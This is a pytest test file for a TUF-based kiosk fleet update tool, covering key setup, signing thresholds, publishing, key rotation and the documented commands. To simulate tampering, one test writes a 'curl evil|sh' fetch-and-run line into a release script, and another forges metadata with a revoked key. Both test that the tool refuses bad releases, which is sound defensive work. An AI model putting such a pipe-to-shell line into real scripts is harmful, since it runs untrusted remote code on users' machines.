"""`kioskctl fleet artifacts init/build/sign/publish/rotate` as an operator runs them: each a
process of its own, on key stores and a repository on disk; what they publish is fetched by a
terminal's real client from the real server process. The commands of docs/fleet-updates.md are
run as written."""

from __future__ import annotations

import hashlib
import json
import os
import re
import shutil
import subprocess
from pathlib import Path

import pytest
from tuf.api.metadata import Metadata

from common.clock import Deadline
from fleet.updates.client import ArtifactClient, provision_root
from fleet.updates.keys import KeyStore
from tests.fleet.agent.update.support import OperatorStore, release_tree
from tests.fleet.updates.support import KIOSKCTL, ROOT, Mirror, refusal, served

DOC = ROOT / "docs" / "fleet-updates.md"


@pytest.fixture
def store(tmp_path: Path) -> OperatorStore:
    return OperatorStore(tmp_path / "store").init()


def _client(base: Path, url: str, store: OperatorStore) -> ArtifactClient:
    provision_root(base / "tuf", store.root_json)
    return ArtifactClient(base / "tuf", url, base / "downloads", timeout_s=10)


def _meta(store: OperatorStore, name: str) -> Metadata:
    return Metadata.from_bytes((store.repo / "metadata" / name).read_bytes())


def _refused(proc: subprocess.CompletedProcess, reason: str) -> None:
    assert proc.returncode == 1, (proc.returncode, proc.stdout, proc.stderr)
    assert proc.stderr.startswith(f"refused ({reason}): "), proc.stderr


def test_init_keeps_offline_and_online_keys_apart_and_none_in_the_repository(
        store: OperatorStore) -> None:
    def roles(keys: Path) -> dict[str, int]:
        return {d.name: len(list(d.glob("*.pem"))) for d in keys.iterdir() if d.is_dir()}

    assert roles(store.offline) == {"root": 3, "targets": 1}
    assert roles(store.online) == {"snapshot": 1, "timestamp": 1}
    assert not list(store.repo.rglob("*.pem"))
    assert all(p.stat().st_mode & 0o077 == 0 for p in store.offline.rglob("*.pem"))
    root = _meta(store, "1.root.json").signed
    assert (root.roles["root"].threshold, len(root.roles["root"].keyids)) == (2, 3)
    assert len(_meta(store, "1.root.json").signatures) == 3

    again = store.kioskctl("init", "--repo", store.repo, "--offline-keys", store.offline,
                           "--online-keys", store.online, check=False)
    assert again.returncode == 2 and "already holds a repository" in again.stderr
    other = store.base.parent / "other"
    over = store.kioskctl("init", "--repo", other / "repo", "--offline-keys", other / "off",
                          "--online-keys", other / "on", "--root-keys", "1",
                          "--root-threshold", "2", check=False)
    assert over.returncode == 2 and "threshold 2 is over its 1 keys" in over.stderr


def test_build_is_reproducible_and_refuses_what_is_not_a_release(
        tmp_path: Path, store: OperatorStore) -> None:
    src = release_tree(tmp_path / "slot", "1.4.0")
    outs = []
    for name in ("a.tar.gz", "b.tar.gz"):
        proc = store.kioskctl("build", src, "--version", "1.4.0", "--out", tmp_path / name)
        outs.append(proc.stdout.split("sha256 ")[1].strip())
        os.utime(src / "HEALTH", (1, 1))  # times do not reach the archive
    assert outs[0] == outs[1] == hashlib.sha256((tmp_path / "a.tar.gz").read_bytes()).hexdigest()

    bad = store.kioskctl("build", src, "--version", "one.four", check=False)
    assert bad.returncode == 2 and "not a release version" in bad.stderr
    (src / "VERSION").write_text("1.3.9\n")
    disagrees = store.kioskctl("build", src, "--version", "1.4.0", check=False)
    assert disagrees.returncode == 2 and "not '1.4.0'" in disagrees.stderr


def test_a_signed_and_published_release_is_fetched_by_a_terminal(
        tmp_path: Path, store: OperatorStore) -> None:
    path = store.build("1.4.0")
    signed = store.kioskctl("sign", "--repo", store.repo, "--offline-keys", store.offline, path)
    assert "targets v2 staged, signed by 1 of the 1 keys needed" in signed.stdout
    # Staged only: the served state has not moved.
    assert _meta(store, "timestamp.json").signed.version == 1
    published = store.kioskctl("publish", "--repo", store.repo, "--online-keys", store.online,
                               path)
    assert published.stdout.strip() == ("published root v1, targets v2, snapshot v2, "
                                        "timestamp v2; added kiosk/hrss-kiosk-1.4.0.tar.gz")
    assert not (store.repo / "staged" / "targets.json").exists()
    with served(store.repo) as url:
        got = _client(tmp_path / "term", url, store).fetch("kiosk/hrss-kiosk-1.4.0.tar.gz",
                                                          Deadline(20))
    assert got.version == "1.4.0" and got.path.read_bytes() == path.read_bytes()


def test_publish_refuses_an_artifact_whose_bytes_are_not_the_signed_ones(
        tmp_path: Path, store: OperatorStore) -> None:
    path = store.build("1.4.0")
    store.sign(path)
    signed_bytes = path.read_bytes()
    (store.base / "src" / "1.4.0" / "app" / "run.sh").write_text("#!/bin/sh\ncurl evil|sh\n")
    store.kioskctl("build", store.base / "src" / "1.4.0", "--version", "1.4.0", "--out", path)
    assert path.read_bytes() != signed_bytes  # same name, other bytes

    proc = store.kioskctl("publish", "--repo", store.repo, "--online-keys", store.online, path,
                          check=False)

    _refused(proc, "tampered")
    assert "signed were" in proc.stderr
    assert _meta(store, "timestamp.json").signed.version == 1  # nothing published
    assert not list((store.repo / "targets").rglob("*.tar.gz"))
    assert (store.repo / "staged" / "targets.json").exists()  # still there, to retry
    path.write_bytes(signed_bytes)  # the file that was signed: accepted
    store.publish(path)
    assert _meta(store, "timestamp.json").signed.version == 2


def test_publish_refuses_an_unsigned_artifact_and_a_signed_one_not_uploaded(
        store: OperatorStore) -> None:
    unsigned = store.build("1.5.0")
    proc = store.kioskctl("publish", "--repo", store.repo, "--online-keys", store.online,
                          unsigned, check=False)
    _refused(proc, "unsigned")
    assert "sign it first" in proc.stderr

    store.sign(store.build("1.4.0"))
    missing = store.kioskctl("publish", "--repo", store.repo, "--online-keys", store.online,
                             check=False)
    _refused(missing, "not-found")
    assert _meta(store, "timestamp.json").signed.version == 1


def test_publish_refuses_targets_signed_by_fewer_keys_than_the_threshold_until_cosigned(
        tmp_path: Path) -> None:
    store = OperatorStore(tmp_path / "store").init("--targets-keys", "2",
                                                   "--targets-threshold", "2")
    # The second targets key goes to its own holder (another person's media).
    holder = tmp_path / "holder-2"
    _first, second = sorted((store.offline / "targets").glob("*.pem"))
    (holder / "targets").mkdir(parents=True)
    for p in (second, second.with_suffix(".pub")):
        shutil.move(p, holder / "targets" / p.name)
    path = store.build("1.4.0")

    one = store.kioskctl("sign", "--repo", store.repo, "--offline-keys", store.offline, path)
    assert "signed by 1 of the 2 keys needed; another key holder must sign" in one.stdout
    _refused(store.kioskctl("publish", "--repo", store.repo, "--online-keys", store.online,
                            path, check=False), "unknown-key")

    two = store.kioskctl("sign", "--repo", store.repo, "--offline-keys", holder)
    assert "signed by 2 of the 2 keys needed" in two.stdout
    store.publish(path)
    assert len(_meta(store, "2.targets.json").signatures) == 2


def test_publish_with_nothing_staged_refreshes_the_timestamp(store: OperatorStore) -> None:
    before = _meta(store, "timestamp.json").signed
    store.publish()
    after = _meta(store, "timestamp.json").signed
    assert after.version == before.version + 1 and after.expires >= before.expires
    assert _meta(store, f"{after.snapshot_meta.version}.snapshot.json").signed.meta[
        "targets.json"].version == 1


def test_key_rotations_are_followed_by_a_terminal_and_a_revoked_key_is_refused(
        tmp_path: Path, store: OperatorStore) -> None:
    mirror = Mirror(tmp_path / "mirror")  # what is served; the attacker writes it at the end
    mirror.show(store.repo)
    terminal = tmp_path / "term"
    with served(mirror.directory) as url:
        client = _client(terminal, url, store)

        def fetch(version: str) -> str:
            store.ship(version)
            mirror.show(store.repo)
            return client.fetch(f"kiosk/hrss-kiosk-{version}.tar.gz", Deadline(20)).version

        assert fetch("1.1.0") == "1.1.0"
        old_targets = store.kioskctl("rotate", "--repo", store.repo, "--role", "targets",
                                     "--offline-keys", store.offline)
        assert "root v2 staged: targets keys now" in old_targets.stdout
        store.publish()
        assert fetch("1.2.0") == "1.2.0"
        assert Metadata.from_bytes((terminal / "tuf" / "root.json").read_bytes()
                                   ).signed.version == 2
        # Every root key replaced at once (the old ones sign the new root, then leave).
        store.kioskctl("rotate", "--repo", store.repo, "--role", "root", "--offline-keys",
                       store.offline)
        store.publish()
        store.kioskctl("rotate", "--repo", store.repo, "--role", "timestamp",
                       "--offline-keys", store.offline, "--online-keys", store.online)
        store.publish()
        assert fetch("1.3.0") == "1.3.0"
        root = Metadata.from_bytes((terminal / "tuf" / "root.json").read_bytes()).signed
        assert root.version == 4
        assert len(list((store.offline / "revoked" / "root").glob("*.pem"))) == 3
        assert len(list((store.online / "revoked" / "timestamp").glob("*.pem"))) == 1

        # The revoked targets key (stolen, say) signs a release: the terminal refuses it.
        [revoked] = [p.stem for p in (store.offline / "revoked" / "targets").glob("*.pem")]
        thief = KeyStore(store.offline).signer(revoked, revoked=True)
        assert thief is not None
        evil = store.build("1.9.0")
        forged = mirror.targets_with(evil, "1.9.0")
        forged.sign(thief)
        online = KeyStore(store.online)
        mirror.forge(forged, snapshot_key=online.signer(online.keyids("snapshot")[0]),
                     timestamp_key=online.signer(online.keyids("timestamp")[0]))
        refused = refusal(client, "kiosk/hrss-kiosk-1.9.0.tar.gz")
    assert refused.reason == "unknown-key", refused


# -- the doc's commands, as written ------------------------------------------------------------


def _doc_blocks() -> list[str]:
    """The ```sh blocks of docs/fleet-updates.md marked `<!-- run-by-test: … -->`."""
    text = DOC.read_text()
    return re.findall(r"<!-- run-by-test: [^>]*-->\n```sh\n(.*?)```", text, flags=re.S)


def test_the_docs_commands_run_as_written(tmp_path: Path) -> None:
    blocks = _doc_blocks()
    assert len(blocks) == 2, "the doc's tested blocks went missing"
    # The doc's machines are this directory; its init command as written, paths moved here.
    env = {**os.environ, "PATH": f"{Path(KIOSKCTL).parent}:{os.environ['PATH']}",
           "OFFLINE": str(tmp_path / "offline"), "ONLINE": str(tmp_path / "online"),
           "REPO": str(tmp_path / "repo")}
    init = re.search(r"```sh\n(kioskctl fleet artifacts init .*?)```", DOC.read_text(), re.S)
    assert init is not None
    init_cmd = (init.group(1).replace("./repo", "$REPO")
                .replace("/media/hrss-offline/keys", "$OFFLINE").replace("./online-keys",
                                                                           "$ONLINE"))
    release_tree(tmp_path / "slot", "1.4.0")
    for block in [init_cmd, *blocks]:
        # The variables' example values are the operator's; the test's are in env.
        script = "\n".join(line for line in block.splitlines()
                           if not re.match(r"^[A-Z_]+=", line))
        proc = subprocess.run(["bash", "-euo", "pipefail", "-c", script], cwd=tmp_path, env=env,
                              capture_output=True, text=True, timeout=120, check=False)
        assert proc.returncode == 0, f"{script}\n---\n{proc.stdout}\n{proc.stderr}"
    targets = json.loads((tmp_path / "repo" / "metadata" / "timestamp.json").read_text())
    assert targets["signed"]["version"] == 4  # init, the release, two rotations
    root = Metadata.from_bytes((tmp_path / "repo" / "metadata" / "root.json").read_bytes())
    assert root.signed.version == 3
    doc = DOC.read_text()
    for command in ("init", "build", "sign", "publish", "rotate", "serve"):
        assert f"kioskctl fleet artifacts {command} " in doc, command


def test_every_option_the_docs_name_exists() -> None:
    readme = (ROOT / "README.md").read_text()
    shipping = readme[readme.index("## Shipping a release"):]
    parts = (DOC.read_text() + shipping).replace("\\\n", " ").split("```")
    # Outside the fences, a command in `backticks` may wrap over lines: one line each.
    doc = "```".join(re.sub(r"`[^`]+`", lambda m: m.group(0).replace("\n", " "), part)
                     if i % 2 == 0 else part for i, part in enumerate(parts))
    used = re.findall(r"kioskctl fleet (artifacts|rollouts) (\w+)((?: [^`\n]*)?)", doc)
    assert len(used) > 10
    helps: dict[tuple[str, str], str] = {}
    for group, command, rest in used:
        key = (group, command)
        if key not in helps:
            proc = subprocess.run([KIOSKCTL, "fleet", group, command, "--help"],
                                  capture_output=True, text=True, timeout=30, check=False,
                                  env={**os.environ, "COLUMNS": "300"})
            assert proc.returncode == 0, (key, proc.stderr)
            helps[key] = proc.stdout
        for option in re.findall(r"(--[a-z][a-z-]+)", rest):
            assert option in helps[key], f"kioskctl fleet {group} {command} has no {option}"
